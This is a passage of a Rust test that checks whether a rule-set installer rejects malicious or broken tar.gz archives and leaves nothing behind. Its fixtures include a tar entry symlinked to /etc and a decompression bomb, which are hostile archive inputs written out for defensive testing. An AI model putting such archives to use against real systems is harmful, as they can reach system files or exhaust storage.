        ("link", raw("coreruleset/rules", tar::EntryType::Symlink, Some("/etc"))?, "is a link"),
        ("bomb", bomb.into_inner()?.finish()?, "more than"),
        ("half", half, "damaged"),
        ("text", b"no archive at all".to_vec(), "no .tar.gz archive"),
        ("empty", archive(&[("README", "nothing")])?, "no folder of the OWASP Core Rule Set"),
    ] {
        let file = write(&site, &format!("{what}.tar.gz"), &bytes)?;
        let (ok, said) = crs(&site, &["install", &file]).await?;
        ensure!(!ok && said.contains(said_part), "{what}: {said}");
    }
    let (_, listed) = crs(&site, &["list"]).await?;
    ensure!(listed.contains("none installed"), "{listed}");
    let left: Vec<PathBuf> =
        std::fs::read_dir(site.dir().join("state/crs"))?.flatten().map(|entry| entry.path()).collect();
    ensure!(left.is_empty(), "left behind: {left:?}");
    Ok(())
}

/// `Read::take` by another name, which `anyhow::Context` does not shadow.
trait TakeBytes: std::io::Read + Sized {
    fn take_bytes(self, bytes: u64) -> std::io::Take<Self> {
        std::io::Read::take(self, bytes)
    }
}

impl TakeBytes for std::io::Repeat {}
